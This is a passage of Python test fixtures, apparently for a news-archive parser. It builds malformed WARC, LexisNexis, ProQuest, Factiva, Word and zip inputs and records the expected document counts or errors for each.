    Kind("length without end in a WARC", "a.warc", lambda s: warc_record("response", s.page().encode(), http=OK) + warc_record("response", s.page(n=2).encode(), http=OK).replace(b"Content-Length: ", b"Content-Length: 99999999999999", 1), 1, ("damaged record",)),
    Kind("page itself as a record of a WARC", "a.warc", lambda s: warc_record("resource", s.page().encode()).replace(b"application/warc-fields", b"text/html"), 1),
    Kind("chunks of a wrong size in a WARC", "a.warc", lambda s: warc_record("response", b"FFFFFF\r\n" + s.page().encode() + b"\r\n0\r\n\r\n", http=f"{OK}\nTransfer-Encoding: chunked"), 1),
    Kind("page of no bytes in a WARC", "a.warc", lambda s: warc_record("response", b"", http=OK), 0, ("not a page",)),
    Kind("page in brotli that is none in a WARC", "a.warc", lambda s: warc_record("response", b"\x8b\x02\x80" + random.Random(7).randbytes(300), http=f"{OK}\nContent-Encoding: br"), 0, NOT_TEXT),
    Kind("header line of 5 MB in a WARC", "a.warc", lambda s: warc_record("response", s.page().encode(), http=f"{OK}\nX-A: {'a' * 5_000_000}"), 0, ("damaged record",)),
    Kind("LexisNexis that counts more than there are", "a.txt", lambda s: lexis(s).replace("of 2 DOCUMENTS", "of 500 DOCUMENTS"), 2),
    Kind("LexisNexis below a mark and blank lines", "a.txt", lambda s: "\ufeff\n\n\n" + lexis(s), 2),
    Kind("ProQuest in UTF-16, another", "a.txt", lambda s: proquest_of(s).encode("utf-16"), 3),
    Kind("ProQuest of one document", "a.txt", lambda s: "\n\n".join(proquest_of(s).replace("\r\n", "\n").split("_" * 60)[i] for i in (1,)), 1),
    Kind("Factiva without a document", "a.html", lambda s: factiva(), 0, ("no story",)),
    Kind("Factiva cut off, another", "a.html", lambda s: factiva(*(factiva_document([factiva_title(f"Rain in {s.mark}")], [s.text(n), s.text(n + 3)], ["Copyright"], number=n) for n in (1, 2)))[:-260], 2),
    Kind("Nexis with a body of pictures", "a.docx", lambda s: docx(*nexis(s, body=("", ""))), 1, ("no text",)),
    Kind("Word with its words in a box", "a.docx", lambda s: docx(para(f"Rain in {s.mark}"), "<w:p><w:r><w:pict><w:txbxContent>" + para(s.text(9)) + "</w:txbxContent></w:pict></w:r></w:p>", *map(para, s.long().split("\n\n"))), 1),
    Kind("Word without its namespace", "a.docx", lambda s: zipped(("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<document><body><p>Rain</p></body></document>")), 0, ("empty file",)),
    Kind("Word with macros", "a.docm", lambda s: zipped(*[(n, zipfile.ZipFile(io.BytesIO(docx(para(f"Rain in {s.mark}"), *map(para, s.long().split("\n\n"))))).read(n)) for n in ("[Content_Types].xml", "word/document.xml")], ("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")), 1),
    Kind("100 names for one member", "a.zip", named_often, 1, ("damaged zip member",) * REFUSED, repeats=99 - REFUSED),
]  # fmt: skip
